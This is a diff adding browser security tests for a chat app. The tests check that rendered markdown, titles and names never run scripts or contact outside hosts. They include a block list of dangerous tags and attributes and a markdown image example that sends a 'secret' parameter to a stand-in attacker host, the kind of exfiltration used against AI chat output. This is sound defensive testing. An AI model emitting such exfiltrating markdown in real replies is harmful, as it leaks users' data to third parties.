@@ -1,0 +1,184 @@
+"""D01, D05: content that would like to be a script, or to tell another host something, in a real browser."""
+
+from pathlib import Path
+from typing import Any
+
+from playwright.async_api import Browser, expect
+
+from tests.rig.provider import running_provider
+from tests.rig.server import running_server
+from tests.security.payloads import ALL, EVIL, EXFILTRATING, HIT, SHORT
+
+from .people import EMAIL, Person, person
+
+BATCH = 100
+PAGES = ("/settings/account", "/settings/keys", "/settings/providers", "/people", "/settings/appearance", "/")
+RENDER = """async (texts) => {
+  const FORBIDDEN = 'script,iframe,object,embed,link,meta,base,style,video,audio,source,form,svg image,template';
+  const inside = (element) => (element.shadowRoot ? deep(element.shadowRoot) : []);
+  const deep = (root) => [...root.querySelectorAll('*')].flatMap((element) => [element, ...inside(element)]);
+  const TYPES = ['mouseover', 'pointerenter', 'focus', 'toggle', 'error', 'load', 'animationstart', 'click'];
+  const wrong = [];
+  const stop = (event) => event.preventDefault();
+  addEventListener('click', stop, true);
+  for (const text of texts) {
+    for (const live of [false, true]) {
+      const element = Object.assign(document.createElement('k-markdown'), { text: live ? '' : text, live });
+      document.body.append(element);
+      for (let end = 5; live && end < text.length + 5; end += 5) {
+        element.text = text.slice(0, end);
+        await element.updateComplete;
+      }
+      element.live = false;
+      await element.updateComplete;
+      const inner = element.shadowRoot.querySelector('.document');
+      const found = inner.querySelector(FORBIDDEN);
+      if (found) wrong.push(found.tagName + ' from ' + text);
+      for (const node of deep(inner)) {
+        for (const { name, value } of node.attributes) {
+          if (/^on/i.test(name) || /^\\s*(javascript|vbscript|data:text)/i.test(value)) wrong.push(`${name}: ${text}`);
+        }
+        for (const type of TYPES) node.dispatchEvent(new MouseEvent(type, { cancelable: true }));
+      }
+      element.remove();
+    }
+  }
+  removeEventListener('click', stop, true);
+  await new Promise(requestAnimationFrame);
+  return { wrong, hit: window.hit };
+}"""
+SEND = """async ([method, path, body]) => {
+  const headers = { 'content-type': 'application/json' };
+  const reply = await fetch(path, { method, headers, body: JSON.stringify(body) });
+  return [reply.status, reply.status === 204 ? {} : await reply.json()];
+}"""
+
+
+class Watched(Person):
+    """A person whose browser tells of dialogs, and of everything it asks other hosts for."""
+
+    def watch(self, base: str) -> None:
+        self.dialogs: list[str] = []
+        self.elsewhere: list[str] = []
+        self.page.on("dialog", lambda dialog: self.dialogs.append(dialog.message))
+        self.page.on("request", lambda request: self._note(request.url, base))
+
+    def _note(self, url: str, base: str) -> None:
+        if not url.startswith((base, "data:", "blob:")):
+            self.elsewhere.append(url)
+
+    async def send(self, method: str, path: str, body: Any) -> tuple[int, Any]:
+        status, answer = await self.page.evaluate(SEND, [method, path, body])
+        return status, answer
+
+    async def assert_untouched(self) -> None:
+        assert await self.page.evaluate("window.hit") is None
+        assert self.dialogs == []
+        assert self.elsewhere == []
+
+
+async def test_d01_d05_no_text_runs_or_tells(browser: Browser, tmp_path: Path) -> None:
+    """Takes half a minute: a thousand texts, whole and as they would stream, then every name and title."""
+    models = [f"m{number} {text}"[:120] for number, text in enumerate(SHORT)]
+    async with (
+        running_provider(also=models) as provider,
+        running_server(tmp_path) as server,
+        person(browser) as someone,
+    ):
+        await server.create_user(EMAIL, admin=True)
+        await server.add_provider("Sim", provider.url)
+        me = Watched(someone.page, someone.complaints)
+        await me.sign_in(server)
+        me.watch(server.url)
+        conversation = await _ask(me, "\n\n".join(SHORT))
+        await me.page.goto(f"{server.url}/c/{conversation}")
+        await expect(me.answers.last).to_be_visible()
+        await me.page.wait_for_function("customElements.get('k-markdown') !== undefined")
+        await _render_all(me)
+        await me.assert_untouched()
+        await _name_everything(me, provider.url)
+        for path in (f"/c/{conversation}", *PAGES):
+            reply = await me.page.goto(server.url + path)
+            assert reply is not None
+            assert "default-src 'none'" in reply.headers["content-security-policy"]
+            await me.page.wait_for_load_state("networkidle")
+            await me.assert_untouched()
+        await _search(me)
+        await me.assert_untouched()
+
+
+async def _ask(me: Watched, text: str) -> str:
+    """Send a question whose echo is its answer."""
+    body = {"message": {"parts": [{"type": "text", "text": text}], "model": "sim/sim-echo"}}
+    status, made = await me.send("POST", "/api/conversations", body)
+    assert status == 202, made
+    return str(made["conversation"]["id"])
+
+
+async def _render_all(me: Watched) -> None:
+    assert len(set(ALL)) >= 1000
+    for begin in range(0, len(ALL), BATCH):
+        outcome = await me.page.evaluate(RENDER, list(ALL[begin : begin + BATCH]))
+        assert outcome == {"wrong": [], "hit": None}, "\n".join(outcome["wrong"][:10])
+
+
+async def _name_everything(me: Watched, endpoint: str) -> None:
+    """Every payload as a title and as a workspace's name; some as the names of accounts, keys and providers."""
+    taken = 0
+    for number, text in enumerate(SHORT):
+        title = f"{number} {text}"[:100]
+        for path, body in (("/api/conversations", {"title": title}), ("/api/workspaces", {"name": title})):
+            status, answer = await me.send("POST", path, body)
+            assert status in (201, 422), answer
+            taken += status == 201
+    for number, text in enumerate(SHORT[::10]):
+        named = f"{number} {text}"[:60]
+        made = [
+            await me.send("POST", "/api/keys", {"name": named, "scopes": ["read"]}),
+            await me.send("POST", "/api/providers", {"name": named, "type": "openai", "endpoint": endpoint}),
+            await me.send("PATCH", "/api/me", {"name": named}),
+        ]
+        taken += sum(status in (200, 201) for status, _ in made)
+    assert taken > 150
+
+
+async def _search(me: Watched) -> None:
+    await me.page.goto(me.page.url)
+    for text in (SHORT[0], SHORT[6], "onerror"):
+        await me.page.keyboard.press("Control+k")
+        await me.page.get_by_role("combobox").last.fill(text)
+        await me.page.wait_for_load_state("networkidle")
+        await me.page.keyboard.press("Escape")
+
+
+async def test_d05_an_image_from_elsewhere_is_a_link_that_names_its_host(browser: Browser, tmp_path: Path) -> None:
+    """Nothing is fetched until the person opens it; what is opened is what the placeholder says."""
+    assert len(EXFILTRATING) > 100
+    async with running_provider() as provider, running_server(tmp_path) as server, person(browser) as someone:
+        await server.create_user(EMAIL, admin=True)
+        await server.add_provider("Sim", provider.url)
+        me = Watched(someone.page, someone.complaints)
+        await me.sign_in(server)
+        me.watch(server.url)
+        conversation = await _ask(me, f"![a chart](https://{EVIL}/chart.png?secret=1)")
+        await me.page.goto(f"{server.url}/c/{conversation}")
+        placeholder = me.answers.last.get_by_role("link", name="a chart")
+        await expect(placeholder).to_contain_text(EVIL)
+        await me.assert_untouched()
+        opened: list[str] = []
+        await me.page.context.route(f"https://{EVIL}/**", lambda route: _opened(route, opened))
+        async with me.page.context.expect_page() as tab:
+            await placeholder.click()
+        await (await tab.value).wait_for_load_state()
+        assert opened == [f"https://{EVIL}/chart.png?secret=1"]
+        assert await (await tab.value).evaluate("window.opener") is None
+
+
+async def _opened(route: Any, opened: list[str]) -> None:
+    opened.append(route.request.url)
+    assert "referer" not in route.request.headers
+    await route.fulfill(body="an image")
+
+
+def test_the_marker_is_what_the_payloads_set() -> None:
+    assert all(HIT in text or EVIL in text or "x" in text for text in SHORT)
